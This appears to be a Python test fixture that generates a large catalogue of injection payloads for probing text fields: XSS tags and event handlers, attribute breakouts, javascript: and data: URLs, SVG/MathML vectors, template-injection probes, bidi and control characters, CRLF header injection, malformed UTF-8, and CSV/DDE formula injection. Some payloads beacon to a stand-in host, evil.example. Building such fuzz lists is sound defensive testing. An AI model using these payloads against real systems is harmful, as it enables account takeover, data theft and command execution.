# Words that hostile people type where reports, names and reasons are typed. Enters: nothing. Leaves: PAYLOADS, each with the kind of thing it tries. Never done
# here: anything that harms whoever opens it; what runs calls `alert` with a number, sets `ran`, or asks a host that is none.
#
# A byte that is no UTF-8 stands as a surrogate (PEP 383), so that it can be sent as it is.

import itertools

# What a script would do if it ran; `%` is the payload's number.
ACTS = ["alert(%)", "ran=%", "fetch('https://evil.example/%')", "document.title='ran%'", "new Image().src='//evil.example/%'", "import('//evil.example/%')", "prompt(%)"]

ELEMENTS = [
    "<script>{act}</script>", "<SCRIPT>{act}</SCRIPT>", "<scr<script>ipt>{act}</scr</script>ipt>", "<script\n>{act}</script\n>", "<script/x>{act}</script>", "<script src=//evil.example/a.js></script>",
    "<script src='data:text/javascript,{act}'></script>", "</script><script>{act}</script>", "</title><script>{act}</script>", "</textarea><script>{act}</script>", "</style><script>{act}</script>",
    "</option></select><script>{act}</script>", "</noscript><script>{act}</script>", "--><script>{act}</script>", "]]><script>{act}</script>", "<!--><script>{act}</script>", "<![CDATA[<script>{act}</script>]]>",
    "<script type=module>{act}</script>", "<iframe srcdoc='<script>{act}</script>'></iframe>", "<iframe src=javascript:{act}></iframe>", "<iframe src='data:text/html,<script>{act}</script>'></iframe>",
    "<object data=javascript:{act}></object>", "<object data='data:text/html,<script>{act}</script>'></object>", "<embed src=javascript:{act}>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/a.css>", "<link rel=import href=//evil.example/>", "<style>@import '//evil.example/a.css'</style>",
    "<style>*{{background:url(//evil.example/b)}}</style>", "<template><script>{act}</script></template>", "<noscript><p title='</noscript><img src=x onerror={act}>'></noscript>", "<portal src=//evil.example/></portal>",
    "<frameset onload={act}></frameset>", "<dialog open onclose={act}>x</dialog>",
]
HANDLERS = [
    "<img src=x onerror={act}>", "<img src=x onerror=\"{act}\">", "<img/src/onerror={act}>", "<IMG SRC=x ONERROR={act}>", "<img src=x onerror\n=\n{act}>", "<img src=x:x onerror=&#97;lert(1)>", "<image src=x onerror={act}>",
    "<body onload={act}>", "<body onpageshow={act}>", "<body onhashchange={act}>", "<input autofocus onfocus={act}>", "<select autofocus onfocus={act}>", "<textarea autofocus onfocus={act}>", "<details open ontoggle={act}>x</details>",
    "<video src=x onerror={act}></video>", "<video><source onerror={act}></video>", "<audio src=x onerror={act}></audio>", "<marquee onstart={act}>x</marquee>", "<div onpointerover={act}>x</div>", "<a onmouseover={act}>x</a>",
    "<p tabindex=1 onfocus={act} autofocus>x</p>", "<keygen autofocus onfocus={act}>", "<div style='animation:a' onanimationstart={act}>x</div><style>@keyframes a{{}}</style>", "<button popovertarget=x>x</button><p popover id=x onbeforetoggle={act}>x</p>",
    "<form onsubmit={act}><button autofocus>x</button></form>", "<form action=javascript:{act}><button>x</button></form>", "<button formaction=javascript:{act}>x</button>", "<input type=image src=x onerror={act}>", "<isindex action=javascript:{act}>",
    "<object onerror={act} data=x></object>", "<x onclick={act} accesskey=x>x</x>", "<b oncopy={act}>x</b>",
]
OUT_OF_ATTRIBUTES = [
    "\" autofocus onfocus={act} x=\"", "' autofocus onfocus={act} x='", "\"><script>{act}</script>", "'><script>{act}</script>", "\"/><img src=x onerror={act}>", "` onmouseover={act} `", "x onfocus={act} autofocus", "\" style=\"background:url(//evil.example/c)",
    "\" formaction=\"javascript:{act}", "\" href=\"javascript:{act}", "\" srcdoc=\"<script>{act}</script>", "\" http-equiv=refresh content=\"0;url=//evil.example", "\"\nonfocus=\n{act}\nautofocus\n", "\\\"><script>{act}</script>", "&quot;><script>{act}</script>",
    "&#34; autofocus onfocus={act} x=&#34;", "\"-{act}-\"", "'-{act}-'", "\\'-{act}//", "\";{act}//", "';{act}//", "${{{act}}}", "`+{act}+`",
]
ADDRESSES = [
    "javascript:{act}", "JaVaScRiPt:{act}", " javascript:{act}", "java\tscript:{act}", "java\nscript:{act}", "\x01javascript:{act}", "javascript&colon;{act}", "javascript://evil.example/%0a{act}", "javascript:/*--></title></style></textarea></script>*/{act}",
    "data:text/html,<script>{act}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{act}'/>", "vbscript:msgbox(1)", "//evil.example/", "\\\\evil.example\\", "/\\evil.example/",
    "https://evil.example/", "https:evil.example", "http://127.0.0.1@evil.example/", "blob:https://evil.example/x", "view-source:javascript:{act}", "mailto:x@evil.example?body=<script>{act}</script>", "x@evil.example\" onclick=\"{act}", "feed:javascript:{act}",
]
VECTORS = [
    "<svg onload={act}>", "<svg/onload={act}>", "<svg><script>{act}</script></svg>", "<svg><script href=//evil.example/a.js></script></svg>", "<svg><a href=javascript:{act}><text y=9>x</text></a></svg>", "<svg><a><animate attributeName=href values=javascript:{act} /></a></svg>",
    "<svg><set attributeName=onmouseover to={act}></svg>", "<svg><animate onbegin={act} attributeName=x dur=1s></svg>", "<svg><foreignObject><img src=x onerror={act}></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload={act}></svg>#x'/></svg>", "<svg><image href=//evil.example/i.png></svg>",
    "<svg><style>*{{background:url(//evil.example/d)}}</style></svg>", "<svg><desc><img src=x onerror={act}></desc></svg>", "<svg><title><script>{act}</script></title></svg>", "<math><a xlink:href=javascript:{act}>x</a></math>", "<math><mtext><img src=x onerror={act}></mtext></math>",
    "<math href=javascript:{act}>x</math>", "</text></svg><script>{act}</script>", "\"/></svg><script>{act}</script>", "<svg></p><style><a id=\"</style><img src=x onerror={act}>\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={act}>",
]
# Each would be 62615533 if something reckoned it.
BRACES = [
    "{{ 7919 * 7907 }}", "{{7919*7907}}", "{{ [].__class__ }}", "{% raw %}", "{% endraw %}{{ 7919*7907 }}", "{%- include 'accounts.html' -%}", "{% for x in me %}{{ x }}{% endfor %}", "{# x #}", "{{ me|tojson }}", "{{ '<script>alert(1)</script>'|safe }}", "${7919*7907}", "#{7919*7907}", "<%= 7919*7907 %>",
    "*{7919*7907}", "@(7919*7907)", "[[${7919*7907}]]", "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "{php}7919*7907{/php}", "#set($x=7919*7907)$x", "{% endblock %}{% block main %}", "{0}{1}%s%n%d", "{coverage}{low}{best}",
]
# Overrides, embeddings and isolates that nobody closes; marks alone; tags; letters that stand for others.
BIDI = [
    "‮12‬ killed", "‮dellik 12", "‭abc‮", "‫abc", "‪abc", "⁦abc", "⁧abc", "⁨abc", "abc⁩⁩⁩", "‏12‏", "‎ق‎", "؜12", "‮<b>x</b>", "x‮y⁦z", "قصف‮ killed 12", "admin‮", "‮/‮>tpircs<", "‬‬‬‬x",
]
UNSEEN = [
    "x\x00y", "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "x\x1b[31mred\x1b[0m", "\x07bell\x08\x08", "x\x7fy", "x\x85y", "line\u2028after", "line\u2029after", "\ufeffx", "a\u200bb\u200cc\u200dd", "x\uffff", "x\ufffd", "\U000e0041\U000e0042", "Z" + "\u0334\u0300" * 40, "\u3000x\u00a0",
    "x\r\nSet-Cookie: tollbook_session=1", "x%0d%0aLocation:%20//evil.example", "x\r\n\r\n<script>alert(1)</script>", "x" * 300 + "<script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "<ſcript>alert(1)</ſcript>", "<İMG SRC=x onerror=alert(1)>",
]
# Bytes that are no UTF-8: overlong forms of <, ", /, surrogates, cut ends, other encodings.
BYTES = [
    b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe", b"\xe0\x80\xbcscript\xe0\x80\xbealert(1)", b"\xf0\x80\x80\xbcscript>alert(1)", b"\xc0\xa2 onfocus=alert(1) x=\xc0\xa2", b"\xc0\xae\xc0\xae\xc0\xaf", b"\xed\xa0\x80x", b"\xf8\x88\x80\x80\x80<b>", b"\xff\xfe<\x00b\x00>\x00", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    b"x\xc3", b"x\xe2\x80", b"\x80\x81<script>alert(1)</script>", b"\x1b$B<script>alert(1)</script>", b"\xbcscript\xbealert(1)\xbc/script\xbe",
]
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/\",\"x\")", "=WEBSERVICE(\"https://evil.example/\")", "=IMPORTXML(\"https://evil.example/\",\"//a\")", "+1+1", "-1+1", "-cmd|'/C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''=1+1", "\"=1+1", "=1+1\",=2+2,\"", ";=1+1", ",=1+1", " =1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "%0A=1+1",
]


def made():
    acts = itertools.cycle(ACTS)
    kinds = {"element": ELEMENTS, "handler": HANDLERS, "attribute": OUT_OF_ATTRIBUTES, "address": ADDRESSES, "vector": VECTORS}
    out = []
    for kind, forms in kinds.items():
        for form in forms:
            out.append((kind, form.format(act=next(acts).replace("%", str(len(out) + 1)))))
    out += [("braces", p) for p in BRACES] + [("bidi", p) for p in BIDI] + [("unseen", p) for p in UNSEEN]
    out += [("bytes", p.decode("utf-8", "surrogateescape")) for p in BYTES] + [("formula", p) for p in FORMULAS]
    return out


PAYLOADS = made()

if __name__ == "__main__":
    print(len(PAYLOADS))
